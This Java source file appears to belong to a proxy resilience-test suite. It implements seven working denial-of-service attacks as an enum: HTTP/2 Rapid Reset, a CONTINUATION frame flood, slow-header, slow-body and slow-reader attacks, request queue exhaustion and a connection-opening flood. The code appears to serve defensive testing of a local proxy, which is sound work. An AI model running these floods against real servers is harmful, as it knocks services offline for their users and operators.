package dev.dormouse.testing.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import dev.dormouse.testing.http.Http2Bytes;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.util.Locale;

/**
 * A way to wear a proxy out, on so many connections. The pace is bounded, since attacker, proxy and
 * victim share the processors here. What it does on a connection, it does on that one's virtual
 * thread.
 */
public enum Attack {
  /** Two thousand requests a second, ten in one write, each given up at once. */
  RAPID_RESET(4, Opening.BEFORE) {
    @Override
    void on(Socket socket, String host) throws IOException, InterruptedException {
      byte[] block = Http2Bytes.request("GET", host, "/1000");
      send(socket, Http2Bytes.hello());
      for (int stream = 1; ; stream += 2 * BURST) {
        ByteArrayOutputStream burst = new ByteArrayOutputStream();
        for (int i = stream; i < stream + 2 * BURST; i += 2) {
          int flags = Http2Bytes.END_HEADERS | Http2Bytes.END_STREAM;
          burst.writeBytes(Http2Bytes.frame(Http2Bytes.HEADERS, flags, i, block));
          burst.writeBytes(Http2Bytes.reset(i, Http2Bytes.CANCEL));
        }
        send(socket, burst.toByteArray());
        Thread.sleep(20);
      }
    }
  },

  /** Two thousand frames a second of headers that go on without a byte. */
  CONTINUATION_FLOOD(4, Opening.BEFORE) {
    @Override
    void on(Socket socket, String host) throws IOException, InterruptedException {
      byte[] block = Http2Bytes.request("GET", host, "/1000");
      send(socket, Http2Bytes.hello());
      send(socket, Http2Bytes.frame(Http2Bytes.HEADERS, Http2Bytes.END_STREAM, 1, block));
      byte[] more = Http2Bytes.frame(Http2Bytes.CONTINUATION, 0, 1, Http2Bytes.NOTHING);
      while (true) {
        send(socket, more);
        Thread.sleep(2);
      }
    }
  },

  /** A header of which a line comes each second. */
  SLOW_HEADERS(1000, Opening.BEFORE) {
    @Override
    void on(Socket socket, String host) throws IOException, InterruptedException {
      send(socket, "GET /1000 HTTP/1.1\r\nHost: " + host + "\r\n");
      while (true) {
        Thread.sleep(1000);
        send(socket, "X-A: b\r\n");
      }
    }
  },

  /** A body of which a byte comes each second. */
  SLOW_BODY(1000, Opening.BEFORE) {
    @Override
    void on(Socket socket, String host) throws IOException, InterruptedException {
      send(socket, "POST / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 1000000\r\n\r\n");
      while (true) {
        Thread.sleep(1000);
        send(socket, "x");
      }
    }
  },

  /** Answers of a megabyte of which a byte is read each second. */
  SLOW_READER(1000, Opening.BEFORE) {
    @Override
    void on(Socket socket, String host) throws IOException, InterruptedException {
      send(socket, "GET /1000000 HTTP/1.1\r\nHost: " + host + "\r\n\r\n");
      while (socket.getInputStream().read() >= 0) {
        Thread.sleep(1000);
      }
    }
  },

  /** Ten thousand requests to a service that serves one at a time, and has just begun with one. */
  QUEUED(10_000, Opening.BEFORE) {
    @Override
    void on(Socket socket, String host) throws IOException {
      send(socket, "GET /?sleepMillis=100000 HTTP/1.1\r\nHost: " + host + "\r\n\r\n");
      while (socket.getInputStream().read() >= 0) {
        // The rest, which may come after all.
      }
    }
  },

  /** A thousand connections a second, each with half a header, that stay for a second. */
  OPENING(1000, Opening.MEANWHILE) {
    @Override
    void on(Socket socket, String host) throws IOException, InterruptedException {
      send(socket, "GET /1000 HTTP/1.1\r\nHost: " + host + "\r\n");
      Thread.sleep(1000);
    }
  };

  private static final int BURST = 10;

  /** When its connections are opened. */
  enum Opening {
    /** At a gentle pace before anything is measured: who is slow is slow for long. */
    BEFORE(1000),
    /** As long as it lasts: that is the attack. */
    MEANWHILE(1000);

    /** How many a second. */
    final int pace;

    Opening(int pace) {
      this.pace = pace;
    }
  }

  public final int connections;
  final Opening opening;

  Attack(int connections, Opening opening) {
    this.connections = connections;
    this.opening = opening;
  }

  /** Until the connection is ended, by whomever. */
  abstract void on(Socket socket, String host) throws IOException, InterruptedException;

  public String title() {
    return name().toLowerCase(Locale.ROOT).replace('_', '-');
  }

  private static void send(Socket socket, String text) throws IOException {
    send(socket, text.getBytes(ISO_8859_1));
  }

  private static void send(Socket socket, byte[] bytes) throws IOException {
    socket.getOutputStream().write(bytes);
  }
}
